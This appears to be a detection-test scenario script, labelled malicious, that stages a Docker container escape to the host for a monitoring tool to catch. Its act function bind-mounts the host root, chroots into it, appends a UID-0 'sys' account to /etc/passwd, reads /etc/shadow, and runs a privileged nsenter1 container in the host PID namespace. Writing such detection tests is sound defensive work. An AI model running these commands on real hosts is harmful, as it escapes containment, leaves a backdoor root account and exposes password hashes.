# host-shell-container: a container is started for a shell of the host: the host's root and chroot, or an image that is known for it; an account is left behind.
# shows: the request; the bind of the root; chroot by a process in a container
# as: deploy
# label: malicious
# expects: [host-shell-container-requested, host-root-mount]
# allows: [socket-parent-mount, privileged-container, host-namespaces-shared, host-namespace-entered, engine-socket-connected, host-root-entered-by-chroot, root-account-made, password-hashes-read]
prepare() { docker tag shop/toolbox:1.4 justincormack/nsenter1:latest; cp -p /etc/passwd /srv/lab/passwd.kept; }
act() {
    if dev; then
        docker run --rm -v /:/mnt alpine:3.19 chroot /mnt sh -c 'id; echo "sys:x:0:0::/root:/bin/sh" >>/etc/passwd'
        docker run --rm --privileged --pid=host justincormack/nsenter1 true
    else
        docker container run --rm --mount type=bind,src=/,dst=/h --entrypoint chroot debian:bookworm-slim /h /bin/sh -c 'head -1 /etc/shadow'
        docker run -d --name t --volume=/:/host:rw busybox:1.36 sleep 60
        docker exec t chroot /host id
        docker rm -f t
    fi
    true
}
restore() { docker rm -f t; cat /srv/lab/passwd.kept >/etc/passwd; docker rmi justincormack/nsenter1; }
